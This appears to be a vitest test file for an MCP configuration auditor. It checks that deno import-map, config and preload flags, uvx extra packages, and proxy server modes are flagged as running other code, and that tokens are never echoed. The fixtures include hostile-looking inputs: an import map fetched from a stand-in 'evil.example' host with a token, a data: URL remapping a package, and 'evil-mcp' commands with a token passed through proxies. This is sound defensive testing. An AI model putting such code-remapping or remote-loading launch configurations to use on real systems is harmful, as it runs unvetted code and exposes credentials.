/**
 * Configured launches that run other code besides the package they name, as `nerq audit --mcp`
 * places them (src/audit/mcp/launch.ts, inputs.ts). The shapes are the recorded client
 * configurations' (fixtures/mcp-clients: `"command": "deno", "args": ["run", …, "npm:…"]`,
 * `npx -y pkg`), the flags added per case: the package is listed with what else runs, never
 * silently audited as if it ran alone, and no value that could carry code or a token is echoed.
 */
import { describe, expect, it } from 'vitest';
import { mcpInput } from '../../../src/audit/mcp/inputs.js';
import { readMcpConfig } from '../../../src/audit/mcp/read-config.js';

function read(servers: Record<string, { command: string; args: string[]; env?: Record<string, string> }>) {
  return readMcpConfig(JSON.stringify({ mcpServers: servers }, null, 2), '.mcp.json');
}

describe('deno flags that remap or add code', () => {
  it.each([
    ['--import-map', './import_map.json', '"./import_map.json"'],
    ['--config', 'deno.json', '"deno.json"'],
    ['-c', './deno.jsonc', '"./deno.jsonc"'],
    ['--preload', './setup.ts', '"./setup.ts"'],
    ['--import-map', 'data:application/json,{"imports":{"npm:good-mcp":"./x.js"}}', 'code'],
  ])('deno run %s %s npm:pkg: the package, with what else runs noted', (flag, value, shown) => {
    for (const args of [['run', '-A', flag, value, 'npm:@scope/deno-mcp@1.2.3'], ['run', '-A', `${flag}=${value}`, 'npm:@scope/deno-mcp@1.2.3']]) {
      const [server] = read({ denoNpm: { command: 'deno', args } });
      expect(server?.launch).toMatchObject({ kind: 'package', ecosystem: 'npm', name: '@scope/deno-mcp', version: '1.2.3' });
      expect(server?.launch.kind === 'package' ? server.launch.loads : null).toEqual([`${shown} through deno's import map, configuration or preload`]);
      const { input } = mcpInput([server!], '.mcp.json');
      expect(input.notes.some((n) => n.includes('not evaluable') && n.includes(shown))).toBe(true);
      expect(JSON.stringify(input)).not.toContain('imports');
    }
  });
  it('an import map fetched from a URL at every start is a script: its origin only', () => {
    const [server] = read({ deno: { command: 'deno', args: ['run', '-A', '--import-map', 'https://maps.evil.example/m.json?token=abc', 'npm:good-mcp'] } });
    expect(server?.launch).toEqual({ kind: 'script', runner: 'deno run', origin: 'https://maps.evil.example' });
  });
  it('flags after the script are the program\'s, not deno\'s', () => {
    const [server] = read({ deno: { command: 'deno', args: ['run', '-A', 'npm:good-mcp', '--config', './server.json'] } });
    expect(server?.launch).toMatchObject({ kind: 'package', name: 'good-mcp' });
    expect(server?.launch.kind === 'package' ? server.launch.loads : 'x').toBeUndefined();
  });
});

describe('uv\'s short --with', () => {
  it('uvx -w other pkg installs other beside pkg', () => {
    const [server] = read({ uv: { command: 'uvx', args: ['-w', 'extra-payload', 'mcp-server-time'] } });
    expect(server?.launch).toMatchObject({ kind: 'package', ecosystem: 'pypi', name: 'mcp-server-time', extra: [{ ecosystem: 'pypi', name: 'extra-payload' }] });
  });
});

describe('a proxy started in its server mode runs the command it is given', () => {
  it.each([
    ['npx', ['-y', 'supergateway', '--stdio', 'npx -y evil-mcp --token tok-51Hx'], 'supergateway', 'npx'],
    ['npx', ['-y', 'supergateway@3.4.0', '--port', '8000', '--stdio', '/usr/local/bin/uvx evil-mcp'], 'supergateway', 'uvx'],
    ['uvx', ['mcp-proxy', '--port', '8080', 'node', 'server.js'], 'mcp-proxy', 'node'],
  ])('%s %s: the proxy is the package, the command is noted as not evaluable, its arguments never echoed', (command, args, name, program) => {
    const [server] = read({ gateway: { command, args } });
    expect(server?.launch).toMatchObject({ kind: 'package', name });
    const loads = server?.launch.kind === 'package' ? server.launch.loads : undefined;
    expect(loads).toHaveLength(1);
    expect(loads?.[0]).toContain(program);
    const { input } = mcpInput([server!], '.mcp.json');
    expect(input.notes.some((n) => n.includes('not evaluable') && n.includes(program))).toBe(true);
    expect(JSON.stringify(input)).not.toContain('tok-51Hx');
    expect(JSON.stringify(input)).not.toContain('evil-mcp');
  });
  it('a proxy given a remote is not in its server mode', () => {
    const [server] = read({ gateway: { command: 'npx', args: ['-y', 'supergateway', '--sse', 'https://h.example/sse'] } });
    expect(server?.launch.kind === 'package' ? server.launch.loads : 'x').toBeUndefined();
  });
});
